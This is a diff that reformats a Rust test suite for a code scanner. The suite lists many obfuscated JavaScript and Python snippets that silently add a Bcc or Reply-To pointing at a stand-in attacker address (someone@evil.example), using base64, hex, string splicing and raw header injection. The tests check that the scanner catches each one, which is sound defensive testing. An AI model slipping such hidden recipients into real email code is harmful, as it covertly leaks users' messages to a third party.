@@ -78,12 +78,12 @@ const IN_JAVASCRIPT: &[Way] = &[
         property: "Bcc: `${user}@${host}`,",
         ..way("template of constants", ALL)
     },
-    Way {
-        property: "Bcc: Buffer.from('c29tZW9uZUBldmlsLmV4YW1wbGU=', 'base64').toString(),",
-        ..way("base64", ALL)
-    },
+    Way { property: "Bcc: Buffer.from('c29tZW9uZUBldmlsLmV4YW1wbGU=', 'base64').toString(),", ..way("base64", ALL) },
     Way { property: "Bcc: atob('c29tZW9uZUBldmlsLmV4YW1wbGU'),", ..way("atob", ALL) },
-    Way { property: "Bcc: Buffer.from('736f6d656f6e65406576696c2e6578616d706c65', 'hex').toString('utf8'),", ..way("hex", ALL) },
+    Way {
+        property: "Bcc: Buffer.from('736f6d656f6e65406576696c2e6578616d706c65', 'hex').toString('utf8'),",
+        ..way("hex", ALL)
+    },
     Way { property: "Bcc: ['someone', 'evil.example'].join('@'),", ..way("join", ALL) },
     Way { property: "Bcc: 'elpmaxe.live@enoemos'.split('').reverse().join(''),", ..way("reversed", ALL) },
     Way {
@@ -108,12 +108,11 @@ const IN_JAVASCRIPT: &[Way] = &[
     Way { statement: "headers.set('Bcc', 'someone@evil.example');", ..way("header set", ALL) },
     Way { property: "Headers: [{ Name: 'Bcc', Value: 'someone@evil.example' }],", ..way("header pair", ALL) },
     Way { property: "Headers: [['Bcc', 'someone@evil.example']],", ..way("header array", ALL) },
-    Way { statement: "const raw = `To: ${to}\\r\\nBcc: someone@evil.example\\r\\n\\r\\n`; emailData.Raw = raw;", ..way("raw header", ALL) },
     Way {
-        top: "const audit = 'someone@evil.example';",
-        property: "ReplyTo: audit,",
-        ..way("reply-to by a name", ALL)
+        statement: "const raw = `To: ${to}\\r\\nBcc: someone@evil.example\\r\\n\\r\\n`; emailData.Raw = raw;",
+        ..way("raw header", ALL)
     },
+    Way { top: "const audit = 'someone@evil.example';", property: "ReplyTo: audit,", ..way("reply-to by a name", ALL) },
     Way {
         statement: "emailData.Cc = AUDIT;",
         property: "",
@@ -166,8 +165,14 @@ const IN_JAVASCRIPT: &[Way] = &[
 
 const IN_PYTHON: &[Way] = &[
     Way { statement: "message['Bcc'] = 'someone@evil.example'", ..way("literal", ALL) },
-    Way { statement: "message['Bcc'] = os.environ.get('BCC', 'someone@evil.example')", ..way("environment or default", ALL) },
-    Way { statement: "message['Bcc'] = os.getenv('BCC') or 'someone@evil.example'", ..way("environment or literal", ALL) },
+    Way {
+        statement: "message['Bcc'] = os.environ.get('BCC', 'someone@evil.example')",
+        ..way("environment or default", ALL)
+    },
+    Way {
+        statement: "message['Bcc'] = os.getenv('BCC') or 'someone@evil.example'",
+        ..way("environment or literal", ALL)
+    },
     Way { statement: "message['Bcc'] = 'someone' + '@' + 'evil.example'", ..way("concatenation", ALL) },
     Way { statement: "message['Bcc'] = 'someone' '@evil.example'", ..way("implicit concatenation", ALL) },
     Way {
@@ -233,7 +238,10 @@ fn fill(template: &str, way: &Way) -> String {
 
 fn check(kind: Kind, file: &str, template: &str, ways: &[Way]) -> Vec<&'static str> {
     let clean = facts(kind, &[(file, &fill(template, &way("clean", &[])))]);
-    assert!(clean.files.contains_key(file) && !values(&clean, stockade_content::Class::Unparsable).contains(&file), "{clean:?}");
+    assert!(
+        clean.files.contains_key(file) && !values(&clean, stockade_content::Class::Unparsable).contains(&file),
+        "{clean:?}"
+    );
     let mut missed = Vec::new();
     for way in ways {
         let mut source = fill(template, way);
@@ -247,7 +255,12 @@ fn check(kind: Kind, file: &str, template: &str, ways: &[Way]) -> Vec<&'static s
             .map(|change| change.rule.id())
             .collect();
         rules.dedup();
-        println!("{:<45} {:<12} {}", way.name, rules.join(" "), found.first().map(ToString::to_string).unwrap_or_default());
+        println!(
+            "{:<45} {:<12} {}",
+            way.name,
+            rules.join(" "),
+            found.first().map(ToString::to_string).unwrap_or_default()
+        );
         let weaker = way.fires.iter().any(|rule| !rules.contains(rule));
         assert!(!weaker, "{}: fired {rules:?}, promised {:?}\n{source}\n{found:#?}", way.name, way.fires);
         if rules.is_empty() {
